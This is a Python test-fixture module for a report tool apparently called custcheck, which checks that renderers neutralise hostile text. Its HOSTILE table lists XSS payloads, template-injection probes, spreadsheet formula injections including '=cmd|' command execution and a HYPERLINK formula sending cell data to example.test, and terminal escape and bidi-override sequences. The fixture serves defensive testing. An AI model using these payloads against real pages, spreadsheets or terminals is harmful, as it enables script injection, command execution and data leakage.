"""Texts that try to leave their place: what a bank, an answer file or an option may hold.

Every report format is held to the same ones. ``CLEAN`` tells what is left of them after
``custcheck.text.clean``; a renderer has to cope with both.
"""

# ruff: noqa: RUF001 - full-width twins of = + - @ are here because they look alike

from collections.abc import Mapping, Sequence
from dataclasses import fields, is_dataclass, replace
from functools import cache
from typing import TypeVar, cast

from building import DATE
from conftest import QUESTIONNAIRES, SAMPLE, TESTS

from custcheck import banks
from custcheck.answers.reading import read_answers
from custcheck.assessment.appendix import detailed
from custcheck.assessment.assess import Audit, Targets, assess
from custcheck.assessment.comparison import compared
from custcheck.assessment.report import GateLine, Report
from custcheck.loading import load_banks
from custcheck.model import LoadedBank
from custcheck.source import parse
from custcheck.text import clean

T = TypeVar("T")

MARK = "hostilemark"
"""Stands in most of the texts, so that a test can find where it went."""

HOSTILE: Mapping[str, str] = {
    # HTML and SVG
    "script": f"<script>alert('{MARK}')</script>",
    "script-upper": f"<SCRIPT SRC=//example.test/{MARK}.js></SCRIPT >",
    "image": f"<img src=x onerror=\"alert('{MARK}')\">",
    "svg": f"<svg/onload=alert('{MARK}')>",
    "style": f"</style><style>@import 'http://example.test/{MARK}';</style>",
    "title": f"</title></head><body>{MARK}",
    "double-quote": f'" onmouseover="alert(1)" data-x="{MARK}',
    "single-quote": f"' onfocus='alert(1)' autofocus x='{MARK}",
    "back-quote": f"` onclick=alert(1) {MARK}",
    "details": f"</details></summary><details open><summary>{MARK}",
    "comment-open": f"<!-- {MARK}",
    "comment-close": f"--> {MARK} <!--",
    "cdata": f"]]> {MARK} <![CDATA[",
    "instruction": f"<?php echo '{MARK}' ?>",
    "entity": f"&lt;b&gt; &amp; &#60;b&#62; &#x3c;{MARK}&nbsp;&copy",
    "bare-entity": f"AT&T &copy {MARK} &notanentity;",
    "template": f"{{{{ 7*7 }}}} {{% raw %}} ${{7*7}} {MARK}",
    # links and pictures
    "javascript": f"javascript:alert('{MARK}')",
    "data-url": f"data:text/html;base64,PHNjcmlwdD4= {MARK}",
    "web-address": f"see http://example.test/{MARK} or https://example.test/?a=1&b=2",
    "bare-address": f"www.example.test/{MARK} and ftp://example.test/x",
    "mail": f"{MARK}@example.test mailto:{MARK}@example.test xmpp:{MARK}@example.test",
    "autolink": f"<http://example.test/{MARK}> <{MARK}@example.test>",
    "markdown-link": f"[{MARK}](javascript:alert(1)) ![{MARK}](http://example.test/x.png)",
    "reference-link": f"[{MARK}]: http://example.test/ 'title'",
    "reference-used": f"[{MARK}][] [{MARK}] [^{MARK}]",
    # marks of Markdown
    "bars": f"a | b || c \\| d {MARK} |",
    "table": f"| a | b |\n| --- | --- |\n| {MARK} | 1 |",
    "code": f"`{MARK}` ``x`` ```y``` ~~~z~~~",
    "fence": f"```\n{MARK}\n```\n<b>out</b>",
    "long-fence": f"{'`' * 12}\n{MARK}\n{'~' * 12}",
    "fence-open": f"``` {MARK}",
    "heading": f"# {MARK}\n## two",
    "setext": f"{MARK}\n===\nmore\n---",
    "rule": f"---\n{MARK}\n***",
    "setext-bare": "===",
    "rule-bare": "---",
    "number-bare": "1.",
    "list": f"- {MARK}\n- [x] done",
    "star-list": f"* {MARK}",
    "numbers": f"1. {MARK}\n2) two",
    "quote": f"> {MARK}\n>> deeper",
    "alert": f"> [!WARNING]\n> {MARK}",
    "emphasis": f"*{MARK}* **b** _c_ __d__ ~~e~~ ***f***",
    "indented": f"        {MARK} as code",
    "tail-spaces": f"{MARK}  \nnext\\\nlast\\",
    "backslash": f"\\{MARK}\\\\ \\",
    "maths": f"$`{MARK}`$ $$\\input{{x}}$$ $x$",
    "emoji-code": f":tada: :smile: {MARK}",
    "mermaid": f"```mermaid\ngraph TD; {MARK}-->B\n```",
    # mentions of a code host
    "team": f"@team @org/{MARK} cc @{MARK}",
    "issue": f"#123 GH-123 {MARK}#1 owner/{MARK}#7 !5 %3 &2",
    "slash": f"/close {MARK}",
    # cells that a spreadsheet works out
    "hyperlink": f'=HYPERLINK("http://example.test/?"&A1,"{MARK}")',
    "command": f"=cmd|'/C calc'!A0 {MARK}",
    "plus": f"+1 {MARK}",
    "plus-bare": "+1",
    "minus": f"-1 {MARK}",
    "minus-bare": "-1",
    "sum": f"@SUM(1+1) {MARK}",
    "full-width-equals": f"＝1+1 {MARK}",
    "full-width-plus": f"＋1 {MARK}",
    "full-width-minus": f"－1 {MARK}",
    "full-width-at": f"＠SUM(1) {MARK}",
    "spaced-formula": f"   =1+1 {MARK}",
    "quoted-formula": f'"=1+1" {MARK}',
    "apostrophe-formula": f"'=1+1 {MARK}",
    "no-break-formula": f"\u00a0=1+1 {MARK}",
    "tab-formula": f"\t=1+1 {MARK}",
    "return-formula": f"\r=1+1 {MARK}",
    "second-line-formula": f"{MARK}\n=1+1",
    "hidden-formula": f"\u200b=1+1 {MARK}",
    "cells": f'a,"b";c\t{MARK}"",',
    # rows and lines
    "lines": f"one\ntwo\r\nthree\rfour {MARK}",
    "unicode-lines": f"one\u2028two\u2029three\x85four\x0bfive\x0csix {MARK}",
    "blank-lines": f"one\n\n\n{MARK}\n\n    code",
    "tabs": f"\ta\tb\t{MARK}\t",
    # terminals and direction
    "terminal-markup": f"[bold]{MARK}[/bold] [/] [link=http://example.test]l[/link] :smile: [red",
    "escaped-markup": f"\\[bold]{MARK}\\[/bold] \\\\[red] [/nothing] [@click=x]",
    "colour": f"\x1b[31m{MARK}\x1b[0m",
    "title-escape": f"\x1b]0;{MARK}\x07 \x1b]8;;http://example.test\x1b\\link\x1b]8;;\x1b\\",
    "eight-bit-escape": f"\x9b31m{MARK} \x07\x08\x7f",
    "null": f"a\x00b {MARK}",
    "bidi-override": f"\u202e{MARK}\u202c \u2066x\u2069 \u200f",
    "invisible": f"{MARK}\u200b\ufeff\u2060\u00ad\U000e0041",
    "surrogate": f"{MARK} \ud800",
    "noncharacter": f"{MARK} \ufffe\uffff",
    # length and other scripts: data like any other
    "long": f"{MARK} " + "x" * 10_000,
    "long-words": f"{MARK} " + "many words " * 900,
    "long-marks": f"{MARK}" + "|<&*_" * 80,
    "chinese": f"客户至上，不是口号。{MARK}",
    "japanese": f"お客様第一 ｜ ＜b＞ ｀{MARK}｀",
    "arabic": f"العميل أولاً (نعم) {MARK}",
    "hebrew": f"הלקוח קודם | <b> {MARK}",
    "emoji": f"👩‍👩‍👧‍👦 🏳️‍🌈 🇸🇪 e\u0301 {MARK}",
    "accents": f"Fjällräven Küche GmbH & Co. {MARK}",
    "blank": "",
    "space": " ",
}
"""By what they try."""

CLEAN: Mapping[str, str] = {name: clean(text) for name, text in HOSTILE.items()}
"""What is to be read of them, once a renderer has made them safe to print."""


@cache
def everything() -> Report:
    """Return a report with all that one can have: a comparison, gates, another framework."""
    core = [QUESTIONNAIRES / f"{name}.yaml" for name in banks.CORE]
    loaded = load_banks([*core, TESTS / "audits" / "service-desk.yaml"])
    sample = SAMPLE.read_text("utf-8")
    desk = (TESTS / "audits" / "service-desk-answers.yaml").read_text("utf-8")
    now = _audit(sample + desk.split("answers:\n")[-1], loaded)
    then = _audit(earlier(sample), loaded)
    gates = (
        GateLine("--fail-under 30", is_broken=False, sentence="The overall score is 39."),
        GateLine("--fail-on majority", is_broken=True, sentence="A majority is raised."),
    )
    report = detailed(now, compared(now, assess(now), then))
    return replace(report, gates=gates, command="custcheck audit --answers a.yaml")


def earlier(sample: str) -> str:
    """Return the sample's answers as they might have been a year before."""
    return (
        sample.replace("date: 2026-11-16", "date: 2025-09-30")
        .replace("one_departments_job: yes", "one_departments_job: no")
        .replace(
            "complex_problem_owner:\n      answer: no", "complex_problem_owner:\n      answer: yes"
        )
    )


def _audit(text: str, loaded: Sequence[LoadedBank]) -> Audit:
    reading = read_answers(parse(text.encode(), "answers.yaml"), loaded)
    return Audit(
        banks=reading.banks,
        response=reading.response,
        answers_sha256=reading.sha256,
        targets=Targets(),
        date=reading.response.date or DATE,
        tool="custcheck under test",
    )


def planted(value: T, text: str, spare: frozenset[str] = frozenset()) -> T:
    """Return a report in which every text is another, save for the fields named in ``spare``.

    Texts that were empty stay so: they say that there is nothing to say.
    """
    return cast(T, _planted(value, text, spare))


def _planted(value: object, text: str, spare: frozenset[str]) -> object:
    match value:
        case "":
            return value
        case str():
            return text
        case tuple():
            return tuple(_planted(item, text, spare) for item in value)
        case _ if is_dataclass(value) and not isinstance(value, type):
            own = [field.name for field in fields(value) if field.name not in spare]
            return replace(
                value, **{name: _planted(getattr(value, name), text, spare) for name in own}
            )
        case _:
            return value


def cut(value: T, to: int = 2) -> T:
    """Return a report of which every part has at most so many lines: a long text stays bearable."""
    return cast(T, _cut(value, to))


def _cut(value: object, to: int) -> object:
    match value:
        case tuple():
            return tuple(_cut(item, to) for item in value[:to])
        case _ if is_dataclass(value) and not isinstance(value, type):
            own = [field.name for field in fields(value)]
            return replace(value, **{name: _cut(getattr(value, name), to) for name in own})
        case _:
            return value
